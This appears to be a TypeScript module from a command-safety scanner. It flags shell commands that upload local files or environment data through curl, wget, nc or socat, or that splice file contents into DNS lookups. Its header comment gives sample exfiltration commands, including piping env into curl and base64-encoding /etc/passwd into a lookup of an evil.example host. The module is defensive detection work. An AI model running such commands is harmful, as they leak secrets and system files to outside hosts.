/*
 * Local files or the environment sent out over the network: uploads (`curl -d @file`,
 * `--upload-file`, `wget --post-file`), anything piped or redirected into a network tool
 * (`env | curl -d @- …`, `nc host < file`), and data spliced into a host name or URL
 * (`dig $(cat /etc/passwd | base64).evil.example`).
 */
import type { CommandSite } from './command-sites.js';
import { HOST_LOOKUPS, NETWORK_SENDERS } from './programs.js';
import { isSubstituted, someView } from './site-views.js';

/** curl options whose `@file` value is a file it sends; `-T`/`--upload-file` always send one. */
const CURL_DATA = /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|--json|-F|--form|--form-string)$/;

export function sendsLocalData(site: CommandSite): boolean {
  return someView(site, (program, args) => {
    if (program === 'curl' && curlUploads(args)) return true;
    if ((program === 'wget' || program === 'wget2') && args.some((arg) => /^--(?:post-file|body-file)/.test(arg))) return true;
    const network = NETWORK_SENDERS.has(program) || HOST_LOOKUPS.has(program);
    if (!network) return false;
    if (args.some((arg) => isSubstituted(site, arg))) return true;
    if (!NETWORK_SENDERS.has(program)) return false;
    const fedByPipe = site.upstream().length > 0;
    const fedByFile = site.redirects.some((r) => (r.op === '<' || r.op === '<>') && r.target !== undefined && !/^\/dev\/(?:null|zero)$/.test(r.target));
    return (fedByPipe || fedByFile) && readsStdinToSend(program, args);
  });
}

function curlUploads(args: readonly string[]): boolean {
  for (let i = 0; i < args.length; i++) {
    const arg = args[i] ?? '';
    if (arg === '-T' || arg === '--upload-file' || arg.startsWith('--upload-file=') || /^-T./.test(arg)) return true;
    if (CURL_DATA.test(arg) && /(?:^|=)@/.test(args[i + 1] ?? '')) return true;
    if (/^-[dF]@/.test(arg) || /^--(?:data|data-binary|data-urlencode|json|form)=(?:[^=]*=)?@/.test(arg)) return true;
  }
  return false;
}

/** Whether a network tool sends its stdin: `nc`, `socat`, `telnet` always; `curl` with `@-` or `-T -`. */
function readsStdinToSend(program: string, args: readonly string[]): boolean {
  if (program !== 'curl' && program !== 'wget' && program !== 'wget2') return true;
  return args.some((arg, i) => arg === '@-' || arg.endsWith('=@-') || arg.endsWith('@-') || ((args[i - 1] === '-T' || args[i - 1] === '--upload-file') && arg === '-'));
}
